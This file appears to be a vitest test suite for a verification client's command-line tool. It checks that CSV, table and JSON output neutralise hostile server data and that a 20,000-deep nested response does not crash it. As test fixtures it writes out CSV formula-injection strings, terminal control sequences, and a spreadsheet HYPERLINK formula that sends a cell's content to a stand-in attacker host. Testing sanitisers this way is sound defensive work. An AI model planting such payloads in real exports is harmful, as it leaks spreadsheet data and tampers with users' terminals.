/**
 * Output that is safe to open: server values that a spreadsheet would run as formulas, terminal
 * control sequences from the server, and a response nested 20 000 deep, through the real
 * commands (in-process) and the writers they share.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/cli/shared/csv-output.js';
import { toJson } from '../../src/cli/shared/json-output.js';
import { safeCell, safeLines } from '../../src/cli/shared/terminal.js';
import { type ApplicantGroup, VerificationClient } from '../../src/index.js';
import { createMockServer, type MockServer } from '../../src/testing/index.js';
import { authRoute, CLIENT_ID, SECRET_KEY, startServer } from '../support/http-server.js';
import { parseCsv, runCli, tempDir, writeHouseholds } from './helpers.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const OSC_TITLE = '\u001b]0;pwned\u0007';
const CSI_CLEAR = '\u001b[2J';

let mock: MockServer;
let sdk: VerificationClient;
let hostile: ApplicantGroup;

beforeAll(async () => {
  mock = await createMockServer({ seed: 41 });
  sdk = new VerificationClient({ baseURL: mock.url, clientId: mock.clientId, secretKey: mock.secretKey });
  hostile = await sdk.applicantGroups.create({
    applicants: [
      { first_name: '@SUM(1+1)', last_name: '+1', email: 'formula@example.com' },
      { first_name: `Clear${CSI_CLEAR}`, last_name: '-2', email: 'escape@example.com' },
    ],
    property: {
      name: HYPERLINK,
      street_address: '1 Formula Way',
      city: 'Springfield',
      state: 'Illinois',
      zip_code: '62701',
      unit: '-2',
    },
    decision_maker_display_name: `Evil ${OSC_TITLE}Corp`,
    monthly_rent: 1000,
    correlation_id: `safe-${OSC_TITLE}`,
    is_invitation_disabled: true,
  });
});
afterAll(async () => {
  await sdk.close();
  await mock.close();
});

describe('CSV the command line writes', () => {
  it('groups list --format csv neutralises formula-leading cells and control sequences', async () => {
    const result = await runCli(['groups', 'list', '--format', 'csv'], mock);
    expect(result.code).toBe(0);
    expect(result.stdout).not.toContain('\u001b');
    expect(result.stdout).not.toContain('\u0007');
    const [record] = parseCsv(result.stdout);
    expect(record).toMatchObject({
      id: hostile.id,
      property_name: `'${HYPERLINK}`,
      unit_number: "'-2",
      applicant_names: "'@SUM(1+1) +1; Clear\\u{1b}[2J -2",
      decision_maker_display_name: 'Evil \\u{1b}]0;pwned\\u{7}Corp',
    });
  });

  it('the results log of groups create neutralises a household key that is a formula', async () => {
    const dir = tempDir();
    const { path } = writeHouseholds(dir, 'formula.csv', { households: 1 });
    const text = readFileSync(path, 'utf8').replace(/\nU-1,/, '\n"=1+1",');
    const { writeFileSync } = await import('node:fs');
    writeFileSync(path, text);
    const result = await runCli(['groups', 'create', '--csv', path, '-q'], mock);
    expect(result.code, result.stderr).toBe(0);
    const log = readdirSync(dir).find((file) => file.startsWith('formula.results.'));
    const [entry] = parseCsv(readFileSync(join(dir, log ?? ''), 'utf8'));
    expect(entry?.household_key).toBe("'=1+1");
  });

  it('toCsv neutralises =, +, -, @, tab and carriage return at the start of a cell, and nothing else', () => {
    const values = ['=1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b', '1-2', ''];
    const text = toCsv(
      values.map((value) => ({ value })),
      ['value'],
      false,
    );
    const cells = text.split('\n').slice(0, -1);
    expect(cells.slice(0, 4)).toEqual(["'=1", "'+1", "'-2", "'@SUM(A1)"]);
    expect(cells[4]).toBe("'\tx");
    // A carriage return would also rewrite a terminal line: it is shown, not kept.
    expect(cells[5]).toBe('\\u{d}x');
    expect(cells.slice(6)).toEqual(['a=b', '1-2', '']);
  });
});

describe('text on a terminal', () => {
  it('groups list (table) shows control sequences from the server as visible escapes', async () => {
    const result = await runCli(['groups', 'list'], mock, { tty: true });
    expect(result.code).toBe(0);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters.
    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(result.stdout).toContain(hostile.id);
    expect(result.stdout).toContain('safe-\\u{1b}]0;pwned\\u{7}');
  });

  it('--format json keeps the data exactly, with control characters escaped', async () => {
    const result = await runCli(['groups', 'list', '--format', 'json'], mock);
    expect(result.code).toBe(0);
    expect(result.stdout).not.toContain('\u001b');
    expect(JSON.parse(result.stdout)).toEqual(mock.groups.applicant());
  });

  it('safeLines and safeCell make C0, C1, OSC/CSI and bidi overrides visible', () => {
    expect(safeLines(`a${OSC_TITLE}b\nc\u009b2Jd\u202ee`)).toBe(
      'a\\u{1b}]0;pwned\\u{7}b\nc\\u{9b}2Jd\\u{202e}e',
    );
    expect(safeCell('a\nb\rc')).toBe('a\\u{a}b\\u{d}c');
    expect(safeCell('plain text, “quotes” and émojis 🏠')).toBe('plain text, “quotes” and émojis 🏠');
  });
});

describe('a response nested 20 000 deep', () => {
  const DEPTH = 20_000;

  it('groups list --format json writes it instead of crashing', async () => {
    const deep = `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`;
    const group = JSON.stringify({ ...hostile, correlation_id: 'deep' });
    const page = `{"applicant_groups":[${group.replace(/}$/, `,"nested":${deep}}`)}],"total_count":1}`;
    const server = await startServer({
      'POST /api/v1/tenants/auth': authRoute(),
      'GET /api/v1/applicant_groups': () => ({ body: page }),
    });
    try {
      const result = await runCli(['groups', 'list', '--format', 'json'], undefined, {
        env: {
          VERIFICATION_BASE_URL: server.url,
          VERIFICATION_CLIENT_ID: CLIENT_ID,
          VERIFICATION_SECRET_KEY: SECRET_KEY,
        },
      });
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      expect(result.stdout.replace(/\s/g, '')).toBe(
        `[${page.slice('{"applicant_groups":['.length, page.indexOf('],"total_count"'))}]`.replace(/\s/g, ''),
      );
    } finally {
      await server.close();
    }
  });

  it('toJson matches JSON.stringify where that works, and goes on where it throws', () => {
    const samples: unknown[] = [
      null,
      'text "quoted" \\ / \n',
      { a: [1, 'two', { b: null, c: [] }], d: {}, e: undefined, f: true },
      [undefined, () => 1, Number.NaN, -0, 1e21],
    ];
    for (const sample of samples) {
      expect(toJson(sample)).toBe(JSON.stringify(sample));
      expect(toJson(sample, 2)).toBe(JSON.stringify(sample, null, 2));
    }
    let value: unknown = 1;
    for (let depth = 0; depth < DEPTH; depth++) value = [value];
    expect(() => JSON.stringify(value)).toThrow(RangeError);
    expect(toJson(value)).toBe(`${'['.repeat(DEPTH)}1${']'.repeat(DEPTH)}`);
  });
});
